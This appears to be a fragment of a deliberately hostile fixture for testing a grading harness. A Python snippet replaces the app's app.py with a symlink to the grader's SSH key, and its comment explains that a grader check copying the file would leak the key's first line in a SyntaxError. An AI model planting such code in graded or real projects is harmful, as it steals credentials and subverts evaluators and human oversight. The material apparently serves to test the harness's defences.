# --- hostile: make the checks' side read a file of the grader's, through a link in the app's own copy -------------
# This app is a package (app/__init__.py), which Python imports in preference to the app.py beside it; so app.py is
# free to become a link to the grader's SSH key. A check that copies app.py from the graded folder (stage 04's
# instance-folder checks do) would then copy the key, as the grader's user, to where the app loads it from: the
# key's first line comes back in the SyntaxError that the check reports.
import os as _r_os

_r_file = _r_os.path.join(_r_os.path.dirname(_r_os.path.dirname(_r_os.path.abspath(__file__))), "app.py")
if not _r_os.path.islink(_r_file):
    _r_os.unlink(_r_file)
    _r_os.symlink(HOSTILE["secrets"][0], _r_file)
